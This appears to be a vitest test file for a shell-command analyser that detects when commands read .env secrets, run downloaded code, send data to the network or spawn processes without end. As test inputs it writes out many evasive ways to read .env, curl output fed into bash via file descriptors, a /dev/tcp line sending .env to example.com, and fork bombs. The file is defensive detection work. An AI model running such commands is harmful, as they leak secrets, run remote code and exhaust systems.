import { describe, expect, test } from "vitest";
import { carriers } from "../../../engine/facts/shell/reach/carriers.ts";
import { editors } from "../../../engine/facts/shell/reach/editor-commands.ts";
import { interpreterRows } from "../../../engine/facts/shell/reach/interpreter-rows.ts";
import { reachRole } from "../../../engine/facts/shell/reach/reach-role.ts";
import { wrappers } from "../../../engine/facts/shell/reach/wrapper-rows.ts";
import { plainField } from "../../../engine/facts/shell/stream.ts";
import { accesses, codes, factsOfCommand } from "./facts-of.ts";

const read = "read ~/app/.env";

describe("a command is reached through", () => {
  test.each([
    "cat .env",
    "/bin/cat .env",
    "/usr/bin/../bin/cat .env",
    "sudo -u root -n -- cat .env",
    "sudo A=1 cat .env",
    "doas -u root cat .env",
    "sudo -s <<< 'cat .env'",
    "sudo -iu root cat .env",
    "su - <<'E'\ncat .env\nE",
    "sudo -e .env",
    "chroot / <<< 'cat .env'",
    "su - root -c 'cat .env'",
    "su -c 'cat .env' root",
    "runuser -u dev -- cat .env",
    "env -i A=1 cat .env",
    "env -S 'A=1 cat .env'",
    "env -u A -C /home/dev/app cat .env",
    "env -P /usr/bin cat .env",
    "nohup cat .env &",
    "nice -n 19 cat .env",
    "ionice -c 3 cat .env",
    "chrt -b 0 cat .env",
    "taskset -c 0 cat .env",
    "time cat .env",
    "command time -f %e cat .env",
    "timeout -k 1 5s cat .env",
    "stdbuf -oL cat .env",
    "setsid cat .env",
    "watch -n 1 cat .env",
    "watch 'cat .env | wc'",
    "echo .env | xargs cat",
    "echo .env | xargs -I{} sh -c 'cat {}'",
    "printf 'README.md\\n.env\\n' | xargs -I % cat %",
    "parallel cat ::: .env",
    "parallel 'cat {} | wc -l' ::: .env",
    "echo 'cat .env' | parallel",
    "find . -maxdepth 0 -exec cat .env \\;",
    "find . -maxdepth 0 -ok sh -c 'cat .env' \\;",
    "script -qc 'cat .env' /dev/null",
    "flock /tmp/l cat .env",
    "flock /tmp/l -c 'cat .env'",
    "unshare -r cat .env",
    "strace -f -o /tmp/t cat .env",
    "valgrind --tool=memcheck cat .env",
    "perf stat -e cycles cat .env",
    "ip netns exec blue cat .env",
    "busybox cat .env",
    "toybox cat .env",
    "xvfb-run -a cat .env",
    "ssh-agent cat .env",
    "hyperfine --warmup 3 'cat .env'",
    "concurrently 'npm test' 'cat .env'",
    "nodemon --exec 'cat .env'",
    "entr cat .env",
    "op run -- cat .env",
    "aws-vault exec dev -- cat .env",
    "doppler run --command 'cat .env'",
    "npx -y cat .env",
    "pnpm dlx cat .env",
    "uvx cat .env",
    "uv run cat .env",
    "tmux new -d 'cat .env'",
    "echo 'cat .env' | at now",
    "xterm -e cat .env",
    "command cat .env",
    "builtin command -p cat .env",
    "exec cat .env",
    "eval 'cat' .env",
    "eval \"$(printf 'cat .env')\"",
    "bash -c 'cat .env'",
    "bash -ec 'cat .env'",
    "bash -eo pipefail -c 'cat .env'",
    "bash --norc -O extglob -c 'cat .env'",
    "zsh -onotify -c 'cat .env'",
    "sh -c 'cat \"$1\"' sh .env",
    "bash <<< 'cat .env'",
    "bash <<'E'\ncat .env\nE",
    "bash -s x <<'E'\ncat .env\nE",
    "echo 'cat .env' | sh",
    "bash <(echo 'cat .env')",
    "source <(echo 'cat .env')",
    ". /dev/stdin <<< 'cat .env'",
    "trap 'cat .env' EXIT",
    "coproc cat .env",
    "coproc J { cat .env; }",
    "f() { cat .env; }; f",
    'f() { cat "$1"; }; f .env',
    "alias c='cat .env'; c",
    "hash -p /bin/cat c; c .env",
    "command_not_found_handle() { cat .env; }; no-such-program",
    "git -c alias.x='!cat .env' x",
    "if cat .env; then :; fi",
    "case a in a) cat .env;; esac",
    "for i in 1; do cat .env; done",
    "! { cat .env; }",
    "(cd /home/dev/app && cat .env)",
    "[[ -n $(cat .env) ]]",
    "echo $((1 + $(cat .env)))",
    "A=$(cat .env) true",
    "frobnicate -- cat .env",
    "retry 3 cat .env",
    "'cat .env'",
    "A-B=1 cat .env",
  ])("%s", (command) => expect(accesses(factsOfCommand(command))).toContain(read));
});

describe("what a shell that is started does not know", () => {
  test.each([
    ["a function", "f() { cat .env; }; bash -c f"],
    ["a function, behind a wrapper", "f() { cat .env; }; nohup f"],
    ["a variable that is not exported", "X=.env; bash -c 'cat $X'"],
    ["`time` after an assignment is a program", "f() { cat .env; }; A=1 time f"],
    ["text that is checked and not run", "bash -n -c 'cat .env'"],
    ["the name of a program", "command -v cat .env"],
  ])("%s", (_case, command) => expect(accesses(factsOfCommand(command))).not.toContain(read));

  test.each([
    ["an exported variable", "export X=.env; bash -c 'cat $X'"],
    ["a variable of `declare -x`", "declare -x X=.env; bash -c 'cat $X'"],
    ["a variable after `set -a`", "set -a; X=.env; bash -c 'cat $X'"],
    ["a variable that is exported later", "X=.env; export X; bash -c 'cat $X'"],
    ["`command cd` is this shell's", "cd /tmp; command cd /home/dev/app; cat .env"],
  ])("but it knows %s", (_case, command) => expect(accesses(factsOfCommand(command))).toContain(read));
});

describe("files that a shell runs first", () => {
  test.each([
    ["of a shell that is not interactive", "echo 'cat .env' > /tmp/s; BASH_ENV=/tmp/s bash build.sh"],
    ["of an interactive one", "echo 'cat .env' > /tmp/s; ENV=/tmp/s sh -i"],
    ["named by an option", "echo 'cat .env' > /tmp/s; bash --rcfile /tmp/s -i"],
  ])("%s", (_case, command) => expect(accesses(factsOfCommand(command))).toContain(read));

  test("what is in them is code", () => {
    expect(codes(factsOfCommand("BASH_ENV=/tmp/s bash build.sh"))).toContain("BASH_ENV file");
    expect(codes(factsOfCommand('BASH_ENV="$S" bash build.sh'))).toContain("BASH_ENV unknown");
    expect(codes(factsOfCommand("BASH_ENV=/tmp/s ls"))).toEqual([]);
  });
});

describe("an open descriptor leads to", () => {
  test.each([
    ["a download that is run", "exec 3< <(curl https://example.com); bash <&3", "bash download"],
    ["one with a name", "exec {fd}< <(curl https://example.com); bash <&$fd", "bash download"],
    ["one that was copied", "exec 3< <(curl https://example.com); exec 4<&3 3<&-; bash <&4", "bash download"],
    ["one by its path", "exec 3< <(curl https://example.com); bash /dev/fd/3", "bash download"],
    ["one by another path", "exec 3< <(curl https://example.com); sh /proc/self/fd/3", "sh download"],
    ["one of two", "exec 3< a; exec 4< <(curl https://example.com); bash <&$N", "bash download"],
  ])("%s", (_case, command, code) => expect(codes(factsOfCommand(command))).toContain(code));

  test.each([
    ["a script", "exec 3<<< 'cat .env'; source /dev/fd/3"],
    ["a shell that waits for text", "exec 3> >(bash); echo 'cat .env' >&3"],
    ["a command between", "echo 'cat .env' > >(cat | sh)"],
    ["a copy", "echo 'cat .env' | tee >(sh) > /dev/null"],
    ["the input of a block", "{ sh; } <<< 'cat .env'"],
    ["a line that is read", "while read -r f; do cat $f; done 3< x < <(echo .env)"],
  ])("%s that reads a file", (_case, command) => {
    expect(accesses(factsOfCommand(command))).toContain(read);
  });

  test("a file that all later output goes into", () => {
    const { flows } = factsOfCommand("exec > all.log; cat .env");
    expect(flows).toContainEqual({ from: "file", source: "~/app/.env", to: "file", sink: "~/app/all.log" });
  });

  test("a socket", () => {
    const { flows } = factsOfCommand("exec 3<>/dev/tcp/example.com/80; cat .env >&3");
    expect(flows).toContainEqual({ from: "file", source: "~/app/.env", to: "network", sink: "example.com" });
  });

  test("nothing, once it is closed", () => {
    expect(codes(factsOfCommand("exec 3< <(curl https://example.com); exec 3<&-; bash <&3"))).toEqual([]);
  });
});

describe("processes", () => {
  test.each([
    ["the classic bomb", ":(){ :|:& };:", "recursive"],
    ["with names", "grow() { grow & grow; }; grow", "recursive"],
    ["in a pipe", "grow() { grow | grow; }; grow", "recursive"],
    ["over two functions", "a() { b & }; b() { a; }; a", "recursive"],
    ["a loop that waits for nothing", "while true; do work & done", "endless"],
    ["a loop that waits too early", "while :; do wait; work & done", "endless"],
    ["a loop without a test", "for ((i = 0; ; i++)); do work & done", "endless"],
    ["jobs of a subshell", "until false; do (work &); wait; done", "endless"],
  ])("grow without end: %s", (_case, command, growth) => {
    expect(factsOfCommand(command).processes.map((fact) => fact.growth)).toContain(growth);
  });

  test.each([
    ["a function that counts down", "f() { [ $1 = 0 ] || f $(($1 - 1)); }; f 3"],
    ["a function that starts another", "f() { work & }; f; wait"],
    ["a bomb that nobody calls", "grow() { grow & grow; }"],
    ["a loop that waits", "while true; do work & wait; done"],
    ["a loop that ends its job", "while true; do serve & sleep 5; kill $!; done"],
    ["a loop with an end", "for i in 1 2 3; do work & done; wait"],
    ["text", "echo ':(){ :|:& };:'"],
  ])("do not grow: %s", (_case, command) => expect(factsOfCommand(command).processes).toEqual([]));
});

describe("words that the input of a program chooses", () => {
  const opaque = (command: string) => factsOfCommand(command).opaque.map(({ what, by }) => `${what} ${by}`);
  test.each([
    ["an argument", "cat l | xargs git reset", "argument git reset"],
    ["a subcommand", "cat l | xargs git", "argument git"],
    ["part of an option", "cat l | xargs -I{} git log --{}", "option git"],
  ])("%s", (_case, command, fact) => expect(opaque(command)).toContain(fact));

  test.each([
    ["behind --", "cat l | xargs git checkout --"],
    ["the value of an option", "cat l | xargs -I{} git log --format={}"],
    ["known words", "echo main | xargs git reset"],
  ])("not %s", (_case, command) => expect(opaque(command).join()).not.toMatch(/argument|option/));
});

test("variables that programs are given", () => {
  const names = (command: string) => factsOfCommand(command).variables.map(({ name }) => name);
  expect(names("A=1 ls")).toEqual(["A"]);
  expect(names("export A=1; env B=2 ls")).toEqual(["A", "B"]);
  expect(names("A=1; echo B=2")).toEqual([]);
});

test.each(
  Object.entries({ carrier: carriers, wrapper: wrappers, interpreter: interpreterRows, editor: editors }),
)("each %s has that role and no other, or its table would not be read", (role, table) => {
  const words = Object.values(wrappers).flatMap(({ only = "" }) => only.split(" ").map(plainField));
  const names = Object.keys(table);
  expect(names.filter((name) => reachRole(name, words) !== role)).toEqual([]);
});
